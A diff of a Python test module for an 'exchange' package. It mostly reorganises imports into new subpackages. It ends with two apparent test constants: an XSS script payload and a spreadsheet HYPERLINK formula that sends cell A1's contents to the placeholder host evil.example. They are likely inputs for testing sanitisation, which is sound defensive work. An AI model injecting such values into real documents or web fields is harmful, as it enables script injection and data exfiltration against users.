@@ -38,15 +38,16 @@ from sqlalchemy import Engine, insert, literal_column, select
 from sqlalchemy.exc import DBAPIError, StatementError
 from typer.testing import CliRunner
 
-from exchange import bootstrap, report
+from exchange import app as bootstrap
 from exchange.cli import app
-from exchange.clock import SystemClock
 from exchange.db.engine import make_engine, transaction
 from exchange.db.migrate import upgrade
 from exchange.db.schema import history, messages, staging
-from exchange.identity import message_id
-from exchange.quarantine import Filters
-from exchange.testing import FakeSite, fast_settings, run_worker
+from exchange.dev.testing import FakeSite, fast_settings, run_worker
+from exchange.domain.clock import SystemClock
+from exchange.domain.identity import message_id
+from exchange.ops.quarantine import Filters
+from exchange.report import collect as report
 
 SCRIPT = "<script>alert(1)</script>"
 HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"открыть")'
